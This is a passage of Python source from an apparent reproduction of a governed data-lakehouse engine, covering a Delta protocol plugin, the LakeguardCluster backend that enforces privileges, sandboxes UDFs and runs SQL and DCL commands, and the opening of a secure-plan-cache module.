# ---------------------------------------------------------------------------
# Client-side message builders
# ---------------------------------------------------------------------------


def time_travel_relation(table: str, version: int) -> dict[str, Any]:
    """Wire message for ``spark.read.option("versionAsOf", v).table(t)``."""
    return proto.relation_extension(
        "delta.time_travel", {"table": table, "version": int(version)}
    )


def history_command(table: str) -> dict[str, Any]:
    return proto.command_extension("delta.history", {"table": table})


def vacuum_command(table: str) -> dict[str, Any]:
    return proto.command_extension("delta.vacuum", {"table": table})


# ---------------------------------------------------------------------------
# Server-side handlers
# ---------------------------------------------------------------------------


def _decode_time_travel(payload: dict[str, Any], decoder: "PlanDecoder") -> LogicalPlan:
    try:
        table = payload["table"]
        version = int(payload["version"])
    except (KeyError, TypeError, ValueError) as exc:
        raise ProtocolError(f"malformed delta.time_travel payload: {exc}") from exc
    relation = UnresolvedRelation(table, {"version": version})
    return SubqueryAlias(relation, table.split(".")[-1])


def _history(
    payload: dict[str, Any], session: "SessionState", backend: "LakeguardCluster"
) -> dict[str, Any]:
    table_name = payload["table"]
    catalog = backend.catalog
    catalog.check_privilege(session.user_ctx, "SELECT", table_name)
    table = catalog.get_table(table_name)
    storage = LakeTableStorage(catalog.store, table.storage_root)
    credential = catalog._service_credential
    latest = storage.latest_version(credential)
    history = []
    for version in range(latest + 1):
        snapshot = storage.snapshot(credential, version)
        history.append(
            {
                "version": version,
                "num_files": len(snapshot.files),
                "num_rows": snapshot.num_rows,
                "size_bytes": snapshot.size_bytes,
            }
        )
    return {"table": table_name, "history": history}


def _vacuum(
    payload: dict[str, Any], session: "SessionState", backend: "LakeguardCluster"
) -> dict[str, Any]:
    table_name = payload["table"]
    catalog = backend.catalog
    table = catalog.get_table(table_name)
    catalog._require_owner_or_admin(
        session.user_ctx, table.owner, table_name, "vacuum"
    )
    storage = LakeTableStorage(catalog.store, table.storage_root)
    credential = catalog._service_credential
    live = {f.path for f in storage.snapshot(credential).files}
    all_files = catalog.store.list(f"{table.storage_root}/data/", credential)
    removed = 0
    bytes_reclaimed = 0
    for path in all_files:
        if path not in live:
            bytes_reclaimed += catalog.store.size_of(path, credential)
            catalog.store.delete(path, credential)
            removed += 1
    return {
        "table": table_name,
        "files_removed": removed,
        "bytes_reclaimed": bytes_reclaimed,
    }


def install(registry: "ExtensionRegistry") -> None:
    """Install the Delta plugin into a server's extension registry."""
    registry.register_relation("delta.time_travel", _decode_time_travel)
    registry.register_command("delta.history", _history)
    registry.register_command("delta.vacuum", _vacuum)
