"""LakeguardCluster: the governed execution backend for every compute type.

One instance is the trusted driver-side half of a cluster (Fig. 7/9). It
implements the Spark Connect :class:`~repro.connect.service.ExecutionBackend`
and assembles, per session:

- a :class:`~repro.core.enforcement.GovernedResolver` (privileges, views,
  row filters, column masks, eFGAC routing),
- a :class:`~repro.core.datasource.GovernedDataSource` (per-user credential
  vending on every scan),
- a UDF runtime: sandboxed via the Dispatcher on compute that isolates user
  code (Standard/Serverless), inline on privileged compute (Dedicated) —
  which is precisely why Dedicated compute gets eFGAC instead of policies.
"""

from __future__ import annotations

from typing import Any, Callable

from repro.catalog.metastore import UnityCatalog
from repro.catalog.policies import ColumnMask, RowFilter
from repro.catalog.privileges import CREATE_TABLE, UserContext
from repro.catalog.scopes import COMPUTE_STANDARD, ComputeCapabilities
from repro.common.clock import Clock, SystemClock
from repro.common.context import QueryContext, current_context
from repro.common.ids import new_id
from repro.connect.sessions import SessionState
from repro.core.datasource import GovernedDataSource
from repro.core.efgac import RemoteQueryExecutor, RemoteSubmit, efgac_rules
from repro.core.enforcement import GovernedResolver
from repro.core.pipeline import PipelineState, build_enforcement_pipeline
from repro.core.plan_cache import SecurePlanCache
from repro.core.plan_codec import PlanDecoder
from repro.engine.compile import KernelCache, KernelCompiler
from repro.engine.executor import (
    ExecutionConfig,
    QueryEngine,
    QueryResult,
    default_fuse_operators,
    default_worker_backend,
)
from repro.engine.workers import WorkerPool
from repro.engine.expressions import UDFRuntime
from repro.engine.logical import LogicalPlan
from repro.engine.optimizer import OptimizerConfig
from repro.engine.types import Field, Schema, type_from_name
from repro.engine.udf import PythonUDF
from repro.errors import (
    AnalysisError,
    SecurableNotFound,
    UnsupportedOperationError,
)
from repro.sandbox.cluster_manager import Backend, ClusterManager
from repro.sandbox.dispatcher import Dispatcher, SandboxedUDFRuntime
from repro.sandbox.policy import SandboxPolicy
from repro.scheduler.workload import TenantPolicy, WorkloadManager
from repro.sql import ast_nodes as ast
from repro.sql.parser import parse_statement


def schema_to_message(schema: Schema) -> list[dict[str, str]]:
    return [{"name": f.qualified_name(), "type": f.dtype.name} for f in schema]


def message_to_schema(message: list[dict[str, str]]) -> Schema:
    return Schema(
        tuple(Field(f["name"], type_from_name(f["type"])) for f in message)
    )


#: Optional hook transforming the authenticated context (e.g. group
#: down-scoping on shared dedicated clusters, §4.2).
ContextTransform = Callable[[UserContext], UserContext]


class LakeguardCluster:
    """Trusted driver-side state of one governed cluster."""

    def __init__(
        self,
        catalog: UnityCatalog,
        compute_type: str = COMPUTE_STANDARD,
        cluster_id: str | None = None,
        clock: Clock | None = None,
        sandbox_backend: Backend = "inprocess",
        sandbox_policy: SandboxPolicy | None = None,
        optimizer_config: OptimizerConfig | None = None,
        num_executors: int = 2,
        batch_size: int = 4096,
        remote_submit: RemoteSubmit | None = None,
        remote_analyze: Callable[[str, dict[str, Any]], list[dict[str, str]]] | None = None,
        provision_seconds: float = 0.0,
        interpreter_start_seconds: float = 0.0,
        context_transform: ContextTransform | None = None,
        engine_compile: bool = True,
        kernel_cache_capacity: int = 256,
        enable_plan_cache: bool = True,
        plan_cache_capacity: int = 128,
        enable_credential_cache: bool = True,
        credential_refresh_ahead: float = 0.2,
        sandbox_min_pool_size: int = 0,
        enable_workload_manager: bool = True,
        workload_slots: int = 16,
        workload_fair_share: bool = True,
        workload_max_total_queue: int = 256,
        workload_admission_timeout: float = 30.0,
        workload_default_policy: TenantPolicy | None = None,
        scan_retries: int = 2,
        scan_retry_base_delay: float = 0.02,
        scan_hedge_after_seconds: float | None = None,
        udf_invoke_retry: bool = True,
        worker_backend: str | None = None,
        worker_pool_size: int | None = None,
        engine_fuse_operators: bool | None = None,
        store_backend: str = "memory",
        store_dir: str | None = None,
        result_cache_enabled: bool = False,
        dist_kv: Any = None,
    ):
        self.catalog = catalog
        self.clock = clock or SystemClock()
        self.cluster_id = cluster_id or new_id("cluster")
        self.caps = ComputeCapabilities(self.cluster_id, compute_type)
        #: Shared tracing/metrics registry (one per catalog deployment).
        self.telemetry = catalog.telemetry
        self.optimizer_config = optimizer_config or OptimizerConfig()
        self.num_executors = num_executors
        self.batch_size = batch_size
        self._context_transform = context_transform

        #: One safe replay of a UDF invoke whose sandbox died before the
        #: request was delivered (at-most-once is preserved either way).
        self.udf_invoke_retry = udf_invoke_retry

        self.cluster_manager = ClusterManager(
            backend=sandbox_backend,
            clock=self.clock,
            default_policy=sandbox_policy or SandboxPolicy(),
            provision_seconds=provision_seconds,
            interpreter_start_seconds=interpreter_start_seconds,
            faults=catalog.faults,
        )

        #: Admission control: every Connect query passes through this before
        #: executing (None when disabled — every query runs immediately).
        self.workload_manager: WorkloadManager | None = None
        if enable_workload_manager:
            self.workload_manager = WorkloadManager(
                name=self.cluster_id,
                clock=self.clock,
                telemetry=self.telemetry,
                total_slots=workload_slots,
                fair_share=workload_fair_share,
                max_total_queue=workload_max_total_queue,
                admission_timeout=workload_admission_timeout,
                default_policy=workload_default_policy,
            )
            catalog.register_workload_stats_provider(
                f"workload[{self.cluster_id}]",
                self.workload_manager.stats_snapshot,
            )

        self.dispatcher = Dispatcher(
            self.cluster_manager,
            min_pool_size=sandbox_min_pool_size,
            workload_manager=self.workload_manager,
        )
        catalog.register_cache_stats_provider(
            f"sandbox_pool[{self.cluster_id}]", self.dispatcher.stats_snapshot
        )

        #: Governed persistence tier (PAPER §cache): a tiered KV ladder under
        #: the kernel/plan/credential caches plus the governed result cache.
        #: ``store_backend`` picks the ladder: ``memory`` (default — process
        #: lifetime only), ``disk`` (memory → spill dir, survives restarts),
        #: ``distkv`` (… → simulated distributed KV, shared across clusters),
        #: or ``none`` (no store at all).
        self.artifact_store: Any = None
        self.result_cache: Any = None
        self._build_store(store_backend, store_dir, result_cache_enabled, dist_kv)
        #: Persistent read/write-through hook for kernel/plan caches. Only
        #: wired when a tier actually outlives this process — duplicating
        #: every entry into a same-lifetime memory ladder is pure overhead.
        store_persistent = (
            self.artifact_store
            if self.artifact_store is not None and self.artifact_store.has_persistent
            else None
        )

        #: Expression compilation: one cluster-wide kernel cache so every
        #: session (and every plan-cache entry) reuses generated kernels for
        #: structurally congruent expressions (None when disabled).
        self.engine_compile = engine_compile
        #: Whole-operator fusion (None defers to LAKEGUARD_FUSE_OPERATORS).
        self.engine_fuse_operators = (
            engine_fuse_operators
            if engine_fuse_operators is not None
            else default_fuse_operators()
        )
        self.kernel_cache: KernelCache | None = None
        self._kernel_compiler: KernelCompiler | None = None
        if engine_compile:
            self.kernel_cache = KernelCache(
                capacity=kernel_cache_capacity,
                telemetry=self.telemetry,
                persistent=store_persistent,
            )
            self._kernel_compiler = KernelCompiler(cache=self.kernel_cache)
            catalog.register_cache_stats_provider(
                f"kernel_cache[{self.cluster_id}]",
                self.kernel_cache.stats_snapshot,
            )

        #: Secure-plan cache: memoizes parse→resolve→rewrite→optimize output,
        #: invalidated by the catalog policy epoch (None when disabled).
        self.plan_cache: SecurePlanCache | None = None
        if enable_plan_cache:
            self.plan_cache = SecurePlanCache(
                capacity=plan_cache_capacity,
                telemetry=self.telemetry,
                persistent=store_persistent,
            )
            catalog.register_cache_stats_provider(
                f"plan_cache[{self.cluster_id}]", self.plan_cache.stats_snapshot
            )

        self.data_source = GovernedDataSource(
            catalog,
            self.caps,
            num_executors,
            enable_credential_cache=enable_credential_cache,
            credential_refresh_ahead=credential_refresh_ahead,
            scan_retries=scan_retries,
            scan_retry_base_delay=scan_retry_base_delay,
            hedge_after_seconds=scan_hedge_after_seconds,
            # Always wired (not just when persistent): the store pins
            # credentials to its memory tier, proving secret material can
            # ride the same ladder without ever reaching disk.
            artifact_store=self.artifact_store,
        )
        catalog.register_fault_stats_provider(
            f"recovery[{self.cluster_id}]", self._recovery_stats_snapshot
        )

        #: Execution backend: one cluster-wide process pool shared by every
        #: session engine (``None`` on the thread backend). Prewarmed here,
        #: while the driver is still single-threaded — forking later, mid
        #: multi-user execution, risks inheriting another thread's held
        #: locks. The pool ships the catalog's armed fault schedules into
        #: each worker, so chaos runs behave identically on both backends.
        self.worker_backend = worker_backend or default_worker_backend()
        self.worker_pool_size = worker_pool_size
        self.worker_pool: WorkerPool | None = None
        if self.worker_backend == "process":
            self.worker_pool = WorkerPool(
                worker_pool_size or num_executors,
                faults=catalog.faults,
                cluster_id=self.cluster_id,
                telemetry=self.telemetry,
            )
            self.worker_pool.prewarm()
            catalog.register_cache_stats_provider(
                f"worker_pool[{self.cluster_id}]",
                self.worker_pool.stats_snapshot,
            )
        self._remote_analyze = remote_analyze
        self.remote_executor: RemoteQueryExecutor | None = None
        if remote_submit is not None:
            self.remote_executor = RemoteQueryExecutor(remote_submit, catalog)

        from repro.core.extensions import default_registry

        #: Spark Connect protocol extensions installed on this server
        #: (Delta plugin by default; §3.2.2).
        self.extensions = default_registry()

        #: Most recent QueryResult (plans + metrics), for tests/benchmarks.
        self.last_result: QueryResult | None = None

    def _build_store(
        self,
        store_backend: str,
        store_dir: str | None,
        result_cache_enabled: bool,
        dist_kv: Any,
    ) -> None:
        """Assemble the tiered store ladder + artifact/result facades."""
        from repro.store import (
            ArtifactStore,
            DiskTier,
            DistKVTier,
            GovernedResultCache,
            MemoryTier,
            TieredStore,
        )

        backend = store_backend
        if backend == "memory" and store_dir is not None:
            # A spill dir only makes sense with a disk tier: treat the
            # combination as asking for one.
            backend = "disk"
        if backend == "none":
            if result_cache_enabled:
                raise ValueError(
                    "result_cache_enabled requires a store backend"
                )
            return
        tiers: list[Any] = [MemoryTier()]
        if backend == "disk":
            if store_dir is None:
                raise ValueError("store_backend='disk' requires store_dir")
            tiers.append(DiskTier(store_dir))
        elif backend == "distkv":
            if store_dir is not None:
                tiers.append(DiskTier(store_dir))
            tiers.append(dist_kv if dist_kv is not None else DistKVTier())
        elif backend != "memory":
            raise ValueError(
                f"unknown store_backend '{store_backend}' "
                "(expected memory|disk|distkv|none)"
            )
        tiered = TieredStore(
            tiers, faults=self.catalog.faults, telemetry=self.telemetry
        )
        self.artifact_store = ArtifactStore(
            tiered, cluster_id=self.cluster_id, telemetry=self.telemetry
        )
        self.catalog.register_store_stats_provider(
            f"store[{self.cluster_id}]", self.artifact_store.stats_snapshot
        )
        if result_cache_enabled:
            self.result_cache = GovernedResultCache(
                self.artifact_store, telemetry=self.telemetry
            )
            self.catalog.register_store_stats_provider(
                f"result_cache[{self.cluster_id}]",
                self.result_cache.stats_snapshot,
            )

    def _recovery_stats_snapshot(self) -> dict[str, float]:
        """Scan + sandbox recovery counters for ``system.access.fault_stats``."""
        out = self.data_source.recovery_stats_snapshot()
        out["udf_retries"] = float(self.dispatcher.stats.udf_retries)
        out["sandbox_dead_evicted"] = float(self.dispatcher.stats.dead_evicted)
        out["sandbox_spares_evicted"] = float(
            self.dispatcher.stats.spares_evicted
        )
        out["sandbox_liveness_probes"] = float(
            self.dispatcher.stats.liveness_probes
        )
        return out

    # ------------------------------------------------------------------
    # ExecutionBackend interface
    # ------------------------------------------------------------------

    def authenticate(self, user: str) -> UserContext:
        try:
            ctx = self.catalog.principals.context_for(user)
        except SecurableNotFound as exc:
            from repro.errors import ClusterAttachDenied

            raise ClusterAttachDenied(str(exc)) from exc
        if self._context_transform is not None:
            ctx = self._context_transform(ctx)
        return ctx

    def on_session_closed(self, session: SessionState) -> None:
        self.dispatcher.release_session(session.session_id)

    # -- per-session machinery ----------------------------------------------------

    def _function_lookup(self, session: SessionState):
        def lookup(name: str) -> PythonUDF | None:
            temp = session.temp_udfs.get(name)
            if temp is not None:
                # Ephemeral code runs in the session user's trust domain.
                return temp.with_owner(session.user_ctx.user)
            if name.count(".") == 2:
                try:
                    return self.catalog.get_function(name, session.user_ctx)
                except SecurableNotFound:
                    return None
            return None

        return lookup

    def _decoder(self, session: SessionState) -> PlanDecoder:
        return PlanDecoder(
            session_user=session.user_ctx.user,
            function_lookup=self._function_lookup(session),
            temp_views=session.temp_views,
            extensions=self.extensions,
        )

    def _remote_schema_resolver(self):
        if self._remote_analyze is None:
            return None

        def resolve(name: str, ctx: UserContext) -> Schema:
            message = self._remote_analyze(
                ctx.user, {"@type": "relation.read", "table": name}
            )
            return message_to_schema(message)

        return resolve

    def _udf_runtime(self, session: SessionState) -> UDFRuntime:
        if self.caps.isolates_user_code:
            # The session's pinned workload environment is loaded inside the
            # sandbox (§6.3) — sandboxes never mix environment versions.
            return SandboxedUDFRuntime(
                self.dispatcher,
                session.session_id,
                environment=session.config.get("workload_env"),
                retry_dead_sandbox=self.udf_invoke_retry,
            )
        # Privileged compute: legacy inline execution inside the engine.
        return UDFRuntime()

    def engine_for(self, session: SessionState) -> QueryEngine:
        """Assemble the governed query engine for one session."""
        txn = session.active_txn
        resolver = GovernedResolver(
            self.catalog,
            session.user_ctx,
            self.caps,
            remote_schema_resolver=self._remote_schema_resolver(),
            # Open transaction: every table read resolves at the snapshot
            # the transaction pinned (snapshot isolation for reads).
            version_pin=txn.pin_for_read if txn is not None else None,
        )
        extra_rules = () if self.caps.can_enforce_fgac_locally else tuple(efgac_rules())
        return QueryEngine(
            resolver=resolver,
            data_source=self.data_source,
            config=ExecutionConfig(
                batch_size=self.batch_size,
                num_executors=self.num_executors,
                compile_enabled=self.engine_compile,
                worker_backend=self.worker_backend,
                worker_pool_size=self.worker_pool_size,
                fuse_operators=self.engine_fuse_operators,
            ),
            optimizer_config=self.optimizer_config,
            extra_rules=extra_rules,
            udf_runtime=self._udf_runtime(session),
            remote_executor=self.remote_executor,
            kernel_compiler=self._kernel_compiler,
            worker_pool=self.worker_pool,
        )

    def shutdown(self) -> None:
        """Release cluster-owned executor resources (idempotent).

        Tears down the scan thread pool, the process worker pool (and its
        shared-memory segments), and the cluster manager's autoscaler. Safe
        to call more than once; sessions created afterwards fall back to
        serial in-process execution.
        """
        self.data_source.close()
        if self.worker_pool is not None:
            self.worker_pool.close()
        self.cluster_manager.shutdown()

    # -- relations --------------------------------------------------------------

    def _query_context(
        self, session: SessionState, query_ctx: QueryContext | None
    ) -> QueryContext:
        """Explicit context, else the ambient one, else a fresh root trace."""
        if query_ctx is not None:
            return query_ctx
        ambient = current_context()
        if ambient is not None:
            return ambient
        return QueryContext.create(
            user=session.user_ctx.user,
            telemetry=self.telemetry,
            clock=self.clock,
            session_id=session.session_id,
            cluster_id=self.cluster_id,
        )

    def pipeline_for(self, session: SessionState):
        """The staged enforcement pipeline for one session's engine."""
        return build_enforcement_pipeline(
            self.engine_for(session),
            self._decoder(session),
            plan_cache=self.plan_cache,
            policy_epoch=lambda: self.catalog.policy_epoch,
            compute_id=self.caps.compute_id,
            workload_manager=self.workload_manager,
            result_cache=self.result_cache,
            data_epoch=lambda: self.catalog.data_epoch,
        )

    def _run_pipeline(
        self,
        session: SessionState,
        query_ctx: QueryContext | None,
        *,
        relation: dict[str, Any] | None = None,
        plan: LogicalPlan | None = None,
    ) -> PipelineState:
        query_ctx = self._query_context(session, query_ctx)
        state = PipelineState(session=session, relation=relation, plan=plan)
        with query_ctx.activate():
            self.pipeline_for(session).run(query_ctx, state)
        self.last_result = state.result
        return state

    def execute_relation(
        self,
        session: SessionState,
        relation: dict[str, Any],
        query_ctx: QueryContext | None = None,
    ) -> tuple[list[dict[str, str]], list[list[Any]]]:
        state = self._run_pipeline(session, query_ctx, relation=relation)
        return state.schema_message, state.columns

    def _execute_plan(
        self,
        session: SessionState,
        plan: LogicalPlan,
        query_ctx: QueryContext | None = None,
    ) -> QueryResult:
        return self._run_pipeline(session, query_ctx, plan=plan).result

    def analyze_relation(
        self, session: SessionState, relation: dict[str, Any]
    ) -> list[dict[str, str]]:
        plan = self._decoder(session).relation(relation)
        analyzed = self.engine_for(session).analyze(plan)
        return schema_to_message(analyzed.schema)

    # ------------------------------------------------------------------
    # Commands (DDL / DML / DCL)
    # ------------------------------------------------------------------

    def execute_command(
        self, session: SessionState, command: dict[str, Any]
    ) -> dict[str, Any]:
        kind = command.get("@type")
        if kind == "command.sql":
            return self._execute_sql_command(session, command["sql"])
        if kind == "command.write_table":
            self.catalog.write_table(
                command["table"],
                command["columns"],
                session.user_ctx,
                overwrite=bool(command.get("overwrite")),
            )
            return {"status": "ok", "operation": "write_table"}
        if kind == "command.create_temp_view":
            session.temp_views[command["name"]] = command["relation"]
            session.bump_temp_state()
            return {"status": "ok", "operation": "create_temp_view"}
        if kind == "command.register_function":
            import cloudpickle

            from repro.errors import ProtocolError

            try:
                func = cloudpickle.loads(command["func_blob"])
            except Exception as exc:  # noqa: BLE001 - hostile blobs
                raise ProtocolError(
                    f"function '{command.get('name')}' has an undeserializable "
                    f"payload: {type(exc).__name__}"
                ) from exc
            udf_obj = PythonUDF(
                name=command["name"],
                func=func,
                return_type=type_from_name(command["return_type"]),
                owner=session.user_ctx.user,
                deterministic=bool(command.get("deterministic", True)),
            )
            session.temp_udfs[udf_obj.name] = udf_obj
            session.bump_temp_state()
            return {
                "status": "ok",
                "operation": "register_function",
                "name": udf_obj.name,
            }
        if kind == "command.extension":
            return self.extensions.execute_command(
                command.get("name", ""), command.get("payload", {}), session, self
            )
        raise UnsupportedOperationError(f"unknown command type '{kind}'")

    def _execute_sql_command(
        self, session: SessionState, sql: str
    ) -> dict[str, Any]:
        ctx = session.user_ctx
        stmt = parse_statement(sql)

        if isinstance(stmt, ast.CreateTableStatement):
            schema_name = stmt.name.rsplit(".", 1)[0]
            self.catalog.check_privilege(ctx, CREATE_TABLE, schema_name)
            fields = tuple(
                Field(name, type_from_name(type_name))
                for name, type_name in stmt.columns
            )
            self.catalog.create_table(stmt.name, Schema(fields), owner=ctx.user)
            return {"status": "ok", "operation": "create_table", "name": stmt.name}

        if isinstance(stmt, ast.CreateTableAsSelectStatement):
            schema_name = stmt.name.rsplit(".", 1)[0]
            self.catalog.check_privilege(ctx, CREATE_TABLE, schema_name)
            query = parse_statement(stmt.query_sql)
            from repro.sql.to_plan import PlanBuilder

            plan = PlanBuilder(self._function_lookup(session)).build(query)
            result = self._execute_plan(session, plan)
            bare = Schema(
                tuple(Field(f.name, f.dtype) for f in result.batch.schema)
            )
            self.catalog.create_table(stmt.name, bare, owner=ctx.user)
            columns = {
                f.name: col
                for f, col in zip(result.batch.schema, result.batch.columns)
            }
            self.catalog.write_table(stmt.name, columns, ctx)
            return {
                "status": "ok",
                "operation": "create_table_as_select",
                "name": stmt.name,
                "rows": result.batch.num_rows,
            }

        if isinstance(stmt, ast.DropObjectStatement):
            obj = self.catalog.get_object(stmt.name)
            if stmt.kind == "TABLE" and obj.kind != "TABLE":
                raise AnalysisError(f"'{stmt.name}' is not a table ({obj.kind})")
            if stmt.kind == "VIEW" and obj.kind not in ("VIEW", "MATERIALIZED_VIEW"):
                raise AnalysisError(f"'{stmt.name}' is not a view ({obj.kind})")
            self.catalog.drop_object(stmt.name, ctx)
            return {"status": "ok", "operation": "drop", "name": stmt.name}

        if isinstance(stmt, ast.ShowGrantsStatement):
            self.catalog._require_manage(ctx, stmt.securable, "show_grants")
            grants = [
                {"principal": g.principal, "privilege": g.privilege}
                for g in self.catalog.grants.grants_on(stmt.securable)
            ]
            return {
                "status": "ok",
                "operation": "show_grants",
                "securable": stmt.securable,
                "grants": grants,
            }

        if isinstance(stmt, ast.DescribeStatement):
            self.catalog.check_privilege(ctx, "SELECT", stmt.name)
            table = self.catalog.get_table(stmt.name)
            masked = {m.column for m in self.catalog.column_masks_of(stmt.name)}
            columns = [
                {
                    "name": f.name,
                    "type": f.dtype.name,
                    "masked": f.name in masked,
                    "tags": sorted(self.catalog.tags.column_tags(stmt.name, f.name)),
                }
                for f in table.schema
            ]
            return {
                "status": "ok",
                "operation": "describe",
                "name": stmt.name,
                "columns": columns,
                "row_filter": self.catalog.row_filter_of(stmt.name) is not None,
            }

        if isinstance(stmt, ast.CreateViewStatement):
            schema_name = stmt.name.rsplit(".", 1)[0]
            self.catalog.check_privilege(ctx, CREATE_TABLE, schema_name)
            if stmt.materialized:
                self.catalog.create_materialized_view(
                    stmt.name, stmt.query_sql, owner=ctx.user
                )
                self.refresh_materialized_view(stmt.name, session)
            else:
                self.catalog.create_view(stmt.name, stmt.query_sql, owner=ctx.user)
            return {"status": "ok", "operation": "create_view", "name": stmt.name}

        if isinstance(stmt, ast.InsertStatement):
            rows: list[tuple] = [tuple(r) for r in stmt.rows]
            if stmt.query_sql is not None:
                _, source_columns = self._materialize_query(
                    session, stmt.query_sql
                )
                rows = list(zip(*source_columns.values())) if source_columns else []
            return self._run_write(
                session, "insert", lambda txn: txn.insert(stmt.table, rows)
            )

        if isinstance(stmt, ast.UpdateStatement):
            return self._run_write(
                session,
                "update",
                lambda txn: txn.update(
                    stmt.table, dict(stmt.assignments), stmt.where
                ),
            )

        if isinstance(stmt, ast.DeleteStatement):
            return self._run_write(
                session,
                "delete",
                lambda txn: txn.delete(stmt.table, stmt.where),
            )

        if isinstance(stmt, ast.MergeStatement):
            # The source is read up front through the full governed pipeline
            # (its row filters / masks / privileges all apply), so the
            # transaction tier only has to govern the target side.
            source_schema, source_columns = self._materialize_query(
                session, f"SELECT * FROM {stmt.source}"
            )
            source_alias = stmt.source_alias or stmt.source.rpartition(".")[2]
            target_alias = stmt.target_alias or stmt.target.rpartition(".")[2]
            return self._run_write(
                session,
                "merge",
                lambda txn: txn.merge(
                    stmt.target,
                    target_alias,
                    source_schema,
                    source_columns,
                    source_alias,
                    stmt.on,
                    None if stmt.matched_assignments is None
                    else dict(stmt.matched_assignments),
                    stmt.matched_delete,
                    stmt.insert_values,
                ),
            )

        if isinstance(stmt, ast.BeginStatement):
            if session.active_txn is not None:
                raise AnalysisError(
                    "a transaction is already open in this session "
                    f"({session.active_txn.txn_id}); COMMIT or ROLLBACK first"
                )
            txn = self.catalog.txn_manager.begin(session.user_ctx)
            session.active_txn = txn
            # Plans compiled outside the transaction must not be reused
            # inside it (and vice versa): reads now resolve at pinned
            # snapshots.
            session.bump_temp_state()
            return {"status": "ok", "operation": "begin", "txn_id": txn.txn_id}

        if isinstance(stmt, ast.CommitStatement):
            txn = session.active_txn
            if txn is None:
                raise AnalysisError("COMMIT without an open transaction")
            session.active_txn = None
            session.bump_temp_state()
            txn.commit()
            return {"status": "ok", "operation": "commit", "txn_id": txn.txn_id}

        if isinstance(stmt, ast.RollbackStatement):
            txn = session.active_txn
            if txn is None:
                raise AnalysisError("ROLLBACK without an open transaction")
            session.active_txn = None
            session.bump_temp_state()
            txn.rollback()
            return {
                "status": "ok",
                "operation": "rollback",
                "txn_id": txn.txn_id,
            }

        if isinstance(stmt, ast.GrantStatement):
            self.catalog.grant_checked(
                ctx, stmt.privilege, stmt.securable, stmt.principal
            )
            return {"status": "ok", "operation": "grant"}

        if isinstance(stmt, ast.RevokeStatement):
            self.catalog.revoke_checked(
                ctx, stmt.privilege, stmt.securable, stmt.principal
            )
            return {"status": "ok", "operation": "revoke"}

        if isinstance(stmt, ast.SetRowFilterStatement):
            self.catalog.set_row_filter(
                stmt.table,
                RowFilter(stmt.table, stmt.condition, created_by=ctx.user),
                ctx,
            )
            return {"status": "ok", "operation": "set_row_filter"}

        if isinstance(stmt, ast.DropRowFilterStatement):
            self.catalog.drop_row_filter(stmt.table, ctx)
            return {"status": "ok", "operation": "drop_row_filter"}

        if isinstance(stmt, ast.SetColumnMaskStatement):
            self.catalog.set_column_mask(
                stmt.table,
                ColumnMask(stmt.table, stmt.column, stmt.mask, created_by=ctx.user),
                ctx,
            )
            return {"status": "ok", "operation": "set_column_mask"}

        if isinstance(stmt, ast.DropColumnMaskStatement):
            self.catalog.drop_column_mask(stmt.table, stmt.column, ctx)
            return {"status": "ok", "operation": "drop_column_mask"}

        raise UnsupportedOperationError(
            f"statement {type(stmt).__name__} is not an executable command"
        )

    def _run_write(
        self,
        session: SessionState,
        operation: str,
        body: Callable[[Any], Any],
    ) -> dict[str, Any]:
        """Stage ``body`` into the session's open transaction, or auto-commit.

        Outside BEGIN/COMMIT every write statement is its own transaction:
        staged, conflict-checked and committed (with conflict retry) before
        the command returns. Inside an open transaction the write only
        stages; nothing becomes visible until COMMIT.
        """
        txn = session.active_txn
        if txn is not None:
            staged_rows = body(txn)
            response: dict[str, Any] = {
                "status": "ok",
                "operation": operation,
                "staged": True,
                "txn_id": txn.txn_id,
            }
        else:
            staged_rows = self.catalog.txn_manager.run(session.user_ctx, body)
            response = {"status": "ok", "operation": operation}
        if isinstance(staged_rows, int):
            response["rows"] = staged_rows
        return response

    def _materialize_query(
        self, session: SessionState, sql: str
    ) -> tuple[Schema, dict[str, list[Any]]]:
        """Run a SELECT through the governed pipeline; return its bare output.

        Used by INSERT INTO ... SELECT and by MERGE source materialization:
        the source relation is read under the caller's full policy set (row
        filters, masks, privileges) before the transaction tier ever sees it.
        """
        query = parse_statement(sql)
        from repro.sql.to_plan import PlanBuilder

        plan = PlanBuilder(self._function_lookup(session)).build(query)
        result = self._execute_plan(session, plan)
        bare = Schema(
            tuple(Field(f.name, f.dtype) for f in result.batch.schema)
        )
        columns = {
            f.name: list(col)
            for f, col in zip(result.batch.schema, result.batch.columns)
        }
        return bare, columns

    # ------------------------------------------------------------------
    # Materialized views
    # ------------------------------------------------------------------

    def refresh_materialized_view(self, name: str, session: SessionState) -> None:
        """Recompute a materialized view's data as its owner."""
        obj = self.catalog.get_object(name)
        stmt = parse_statement(obj.sql_text)
        from repro.sql.to_plan import PlanBuilder

        plan = PlanBuilder(self._function_lookup(session)).build(stmt)
        result = self._execute_plan(session, plan)
        columns = {
            f.name: col for f, col in zip(result.batch.schema, result.batch.columns)
        }
        # Strip any qualifiers: materialized storage uses bare names.
        bare = Schema(tuple(Field(f.name, f.dtype) for f in result.batch.schema))
        self.catalog.store_materialization(name, bare, columns)

    # ------------------------------------------------------------------
    # Direct submission (used by the serverless pool for eFGAC subqueries)
    # ------------------------------------------------------------------

    def run_relation_for_user(
        self, user: str, relation: dict[str, Any]
    ) -> tuple[list[dict[str, str]], list[list[Any]]]:
        """Execute a relation for ``user`` without a Connect session.

        When called underneath an active query (the eFGAC path: a Dedicated
        cluster's RemoteScan routed through the gateway), the sub-plan runs
        in a *child* context of that query — same trace id, parented onto
        the caller's current span — so the remote work appears as a subtree
        of the originating query's trace.
        """
        session = self._ephemeral_session(user)
        parent = current_context()
        query_ctx = None
        if parent is not None:
            query_ctx = parent.child(
                user=user,
                session_id=session.session_id,
                cluster_id=self.cluster_id,
            )
        return self.execute_relation(session, relation, query_ctx=query_ctx)

    def analyze_relation_for_user(
        self, user: str, relation: dict[str, Any]
    ) -> list[dict[str, str]]:
        session = self._ephemeral_session(user)
        return self.analyze_relation(session, relation)

    def _ephemeral_session(self, user: str) -> SessionState:
        ctx = self.authenticate(user)
        return SessionState(
            session_id=new_id("session"),
            user_ctx=ctx,
            created_at=self.clock.now(),
            last_active=self.clock.now(),
        )
