"""The secure-plan cache: memoizing the enforcement front half.

Every governed query pays parse → resolve-secure → efgac-rewrite → optimize
before a single byte is read, and FGAC enforcement cost is dominated by that
redundant per-query policy rewriting. This cache memoizes the *output* of
those stages — the analyzed plan (policies injected under ``SecureView``
barriers) and the optimized plan — so a repeated query skips straight to
physical planning.

Correctness is carried entirely by the key::

    (plan fingerprint, user, effective principals, policy epoch,
     compute id, session temp-state version)

- The **policy epoch** is Unity Catalog's monotonic governance version: any
